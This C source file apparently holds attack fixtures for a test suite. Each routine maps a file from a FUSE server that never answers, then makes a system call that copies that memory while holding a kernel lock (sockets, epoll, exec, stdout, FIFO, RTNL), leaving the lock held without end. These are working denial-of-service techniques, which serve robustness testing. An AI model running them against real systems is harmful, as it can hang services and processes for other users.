/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Locks of the kernel that a worker holds without end. A system call that holds a lock while it
 * copies memory of its caller waits for the server of a file that is mapped there. Whoever needs
 * the lock then waits too, and no signal interrupts it.
 *
 * @arguments of all: the FUSE device, a folder to mount, a port.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/seg6.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

#define SIZE 4096

static void *stuck_memory;
static int stuck_file; /* closing it, once it was read, waits, too */
static int stuck_reached;

/* Mounts the folder, with a server that answers neither a read nor a flush. */
static void stuck_begin(char **arguments)
{
	stuck_file = attack_fuse_open(arguments, &stuck_reached);
	stuck_memory = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, stuck_file, 0);
	if (stuck_memory == MAP_FAILED)
		perror("attack: mmap");
}

/* Returns when a system call of another process waits for the server. */
static void stuck_wait(void)
{
	char byte;

	if (read(stuck_reached, &byte, 1) != 1)
		perror("attack: read");
	fputs("stuck\n", stderr);
}

static int stuck_bind(const char *port)
{
	const struct sockaddr_in address = {.sin_family = AF_INET,
	                                    .sin_port = htons((uint16_t)atoi(port))};
	const int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (bind(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
		perror("attack: bind");
	return fd;
}

/* Like fork(), but the child does not outlive us. */
static pid_t stuck_fork(void)
{
	const pid_t pid = fork();

	if (pid == 0)
		prctl(PR_SET_PDEATHSIG, SIGKILL);
	return pid;
}

static void stuck_listen(int fd)
{
	if (listen(fd, 1024) < 0)
		perror("attack: listen");
	for (;;)
		close(accept(fd, NULL, NULL));
}

/* The lock of a connection that it has accepted. */
ATTACK(stuck_connection)
{
	struct sockaddr_in address = {.sin_family = AF_INET};
	socklen_t size = sizeof(address);
	int fd, accepted;

	signal(SIGTERM, SIG_IGN);
	stuck_begin(arguments);
	fd = stuck_bind(arguments[2]);
	if (listen(fd, 1024) < 0)
		perror("attack: listen");
	getsockname(fd, (struct sockaddr *)&address, &size);
	if (stuck_fork() == 0) {
		const int client = socket(AF_INET, SOCK_STREAM, 0);

		if (connect(client, (const struct sockaddr *)&address, size) < 0)
			perror("attack: connect");
		for (;;)
			pause();
	}
	accepted = accept(fd, NULL, NULL);
	if (stuck_fork() == 0) {
		send(accepted, stuck_memory, SIZE, 0);
		_exit(1);
	}
	stuck_wait();
	for (;;)
		pause();
}

/* Listens on all addresses, with a header of routes of its own for what it sends. */
static sigset_t stuck_signal;

/* Blocks SIGUSR1, at which the lock is taken: it comes @later, or has come. */
static void stuck_await_signal(bool later)
{
	sigemptyset(&stuck_signal);
	sigaddset(&stuck_signal, SIGUSR1);
	sigprocmask(SIG_BLOCK, &stuck_signal, NULL);
	if (!later)
		kill(getpid(), SIGUSR1);
}

static int stuck_listen_with_routes(const char *port)
{
	const struct sockaddr_in6 address = {.sin6_family = AF_INET6,
	                                     .sin6_port = htons((uint16_t)atoi(port))};
	/* A struct ipv6_sr_hdr of hdrlen 2 and type IPV6_SRCRT_TYPE_4, with a segment. */
	static const unsigned char routes[sizeof(struct ipv6_sr_hdr) + sizeof(struct in6_addr)] = {
	        0, 2, 4};
	const int fd = socket(AF_INET6, SOCK_STREAM, 0), on = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on));
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, routes, sizeof(routes)) < 0)
		perror("attack: IPV6_RTHDR");
	if (bind(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
		perror("attack: bind");
	if (listen(fd, 1024) < 0)
		perror("attack: listen");
	return fd;
}

/* The kernel copies the header with the socket's lock held. */
static void *stuck_lock_listener(void *data)
{
	const int *fd = data;
	socklen_t size = SIZE;
	int signal;

	sigwait(&stuck_signal, &signal);
	getsockopt(*fd, IPPROTO_IPV6, IPV6_RTHDR, stuck_memory, &size);
	return NULL;
}

/* The lock of its listener, when it gets SIGUSR1; without @arguments[3], at once. */
ATTACK(stuck_listener)
{
	const int epfd = epoll_create1(0);
	struct epoll_event event = {.events = EPOLLIN | EPOLLONESHOT};
	pthread_t thread;
	int fd;

	stuck_await_signal(arguments[3]);
	stuck_begin(arguments);
	epoll_ctl(epfd, EPOLL_CTL_ADD, stuck_reached, &event);
	fd = stuck_listen_with_routes(arguments[2]);
	event = (struct epoll_event){.events = EPOLLIN | EPOLLET, .data.fd = fd};
	epoll_ctl(epfd, EPOLL_CTL_ADD, fd, &event);
	pthread_create(&thread, NULL, stuck_lock_listener, &fd);
	for (;;)
		if (epoll_wait(epfd, &event, 1, -1) == 1 && event.data.fd != fd)
			stuck_wait();
}

/* The lock of a datagram socket. In a slot other than 0: seems to want the same port, and ends. */
ATTACK(stuck_datagrams)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
	                         .sin_port = htons((uint16_t)atoi(arguments[2])),
	                         .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	const struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = to.sin_port};
	const char *slot = getenv("REUSEPORTD_SLOT");
	int fd;

	if (slot && strcmp(slot, "0") != 0) {
		fputs("Address already in use\n", stderr);
		exit(1);
	}
	stuck_begin(arguments);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(fd, (const struct sockaddr *)&any, sizeof(any)) < 0)
		perror("attack: bind");
	if (stuck_fork() == 0) { /* the kernel collects the datagram with the socket's lock held */
		sendto(fd, stuck_memory, SIZE, MSG_MORE, (const struct sockaddr *)&to, sizeof(to));
		_exit(1);
	}
	stuck_wait();
	for (;;)
		pause();
}

/* The lock of an epoll descriptor that watches its listener; with @arguments[3], when it gets
 * SIGUSR1. */
ATTACK(stuck_epoll)
{
	struct epoll_event event = {.events = EPOLLIN};
	const int epfd = epoll_create1(0);
	int fd, signal;

	stuck_await_signal(arguments[3]);
	stuck_begin(arguments);
	fd = stuck_bind(arguments[2]);
	if (arguments[3])
		listen(fd, 1024);
	sigwait(&stuck_signal, &signal);
	epoll_ctl(epfd, EPOLL_CTL_ADD, fd, &event);
	epoll_ctl(epfd, EPOLL_CTL_ADD, eventfd(1, 0), &event);
	if (stuck_fork() == 0) {
		epoll_wait(epfd, stuck_memory, 1, -1);
		_exit(1);
	}
	stuck_wait();
	stuck_listen(fd);
}

/* The lock of a process that executes a program (exec_update_lock of the kernel): it closes the
 * file. */
ATTACK(stuck_exec)
{
	char *argv[] = {"attack", NULL};
	int fd;

	stuck_begin(arguments);
	fd = stuck_bind(arguments[2]);
	if (stuck_fork() == 0) {
		munmap(stuck_memory, SIZE);
		fcntl(stuck_file, F_SETFD, FD_CLOEXEC);
		execv("/proc/self/exe", argv);
		_exit(1);
	}
	stuck_wait();
	stuck_listen(fd);
}

/* The lock of its standard output. */
ATTACK(stuck_output)
{
	stuck_begin(arguments);
	if (stuck_fork() == 0) {
		if (write(STDOUT_FILENO, "line\n", 5) < 0 ||
		    write(STDOUT_FILENO, stuck_memory, SIZE) < 0)
			perror("attack: write");
		_exit(1);
	}
	stuck_wait();
	stuck_listen(stuck_bind(arguments[2]));
}

/* The lock of a FIFO that another process has open. @arguments[2]: its path. */
ATTACK(stuck_fifo)
{
	/* Before we have a user namespace of our own, from which we can't reach the process. */
	const int fd = open(arguments[2], O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0)
		perror(arguments[2]);
	stuck_begin(arguments);
	if (stuck_fork() == 0) {
		if (write(fd, "line\n", 5) < 0 || write(fd, stuck_memory, SIZE) < 0)
			perror("attack: write");
		_exit(1);
	}
	stuck_wait();
	for (;;)
		pause();
}

/* The lock of the network configuration (RTNL). @arguments[2] is not used. */
ATTACK(stuck_network)
{
	const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	stuck_begin(arguments);
	if (stuck_fork() == 0) {
		setsockopt(fd, IPPROTO_IP, IP_MSFILTER, stuck_memory, SIZE);
		perror("attack: setsockopt");
		_exit(1);
	}
	stuck_wait();
	for (;;)
		pause();
}
